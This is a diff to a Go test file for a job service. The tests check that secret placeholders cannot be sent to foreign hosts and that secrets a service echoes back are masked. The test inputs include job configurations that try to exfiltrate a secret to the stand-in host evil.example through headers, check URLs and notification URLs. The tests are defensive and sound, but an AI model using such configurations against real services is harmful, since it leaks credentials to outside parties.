@@ -58,7 +58,7 @@ func TestSecretsStayWithTheirHosts(t *testing.T) {
 		"request":      `"request":[{"url":"http://evil.example/","headers":{"X":"${secret:KEY}"}}]`,
 		"check":        `"request":[{"url":"http://evil.example/"}],"async":true,"checkUrl":"http://evil.example/${secret:KEY}"`,
 		"notification": `"request":[{"url":"http://evil.example/"}],"notification":[{"url":"http://evil.example/?${secret:KEY}"}]`,
-		"service":      `"request":[{"url":"service://nobody/"}]`,
+		"service":      `"request":[{"url":"service://unknown/"}]`,
 	} {
 		status, text := p.post("/jobs", map[string]any{"key": what, "kind": "triggered", "app": "http", "http": json.RawMessage("{" + call + "}")})
 		if status != http.StatusUnprocessableEntity || !strings.Contains(text, `"body.http.`) || strings.Contains(text, "s3cret") {
@@ -67,7 +67,7 @@ func TestSecretsStayWithTheirHosts(t *testing.T) {
 	}
 }
 
-// Whoever is called may repeat a secret, in an answer, a failure or a report, however it is written: nobody reads it.
+// A service may repeat a secret, in an answer, a failure or a report, in any encoding: it is always masked.
 func TestRepeatedSecretsAreMasked(t *testing.T) {
 	tests.Long(t)
 	const secret, inBase64, inHex = "s3cret", "czNjcmV0", "733363726574"
